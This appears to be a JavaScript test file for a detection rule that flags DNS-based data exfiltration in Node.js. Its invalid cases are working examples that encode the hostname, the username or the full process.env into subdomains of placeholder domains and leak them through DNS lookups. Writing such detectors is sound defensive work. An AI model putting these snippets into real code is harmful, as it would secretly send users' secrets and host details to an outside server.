import { join } from 'node:path';
import { testRule, testSamples } from '../../test-support/rule-tester.js';
import { rule } from './rule.js';

testRule(rule, {
  valid: [
    { name: 'own hostname lookup', code: "const dns = require('dns');\nconst os = require('os');\ndns.lookup(os.hostname(), (e, addr) => console.log(addr));" },
    { name: 'MongoDB SRV prefix', code: "const dns = require('dns');\ndns.resolveSrv('_mongodb._tcp.' + host, cb);" },
    { name: 'DNSBL lookup of a reversed IP', code: "const dns = require('dns');\nconst rev = ip.split('.').reverse().join('.');\ndns.resolve4(rev + '.zen.dnsbl.example.invalid', cb);" },
    { name: 'mDNS-like single label', code: "const dns = require('dns');\ndns.lookup(os.hostname() + '.local', cb);" },
    { name: 'constant name', code: "const dns = require('dns');\ndns.resolveTxt('_dnslink.example.invalid', cb);" },
  ],
  invalid: [
    {
      name: 'hex hostname under a fixed domain',
      code: "const dns = require('dns');\nconst os = require('os');\nconst id = Buffer.from(os.hostname()).toString('hex');\ndns.resolve(`${id}.probe.example.invalid`, () => {});",
      errors: [{ message: /fixed domain probe\.example\.invalid \(dns\.resolve\)/, line: 4 }],
    },
    {
      name: 'chunks of env in a loop',
      code: "const { promises: dnsp } = require('dns');\nconst data = Buffer.from(JSON.stringify(process.env)).toString('base64url');\nfor (const chunk of data.match(/.{1,60}/g)) await dnsp.resolveTxt(chunk + '.x.example.invalid');",
      errors: [{ message: /x\.example\.invalid/, line: 3 }],
    },
    {
      name: 'Resolver instance',
      code: "import { Resolver } from 'node:dns/promises';\nimport os from 'node:os';\nconst r = new Resolver();\nawait r.resolve4(os.userInfo().username + '.u.example.invalid');",
      errors: 1,
    },
  ],
});

testSamples(rule, join(__dirname, 'samples'));
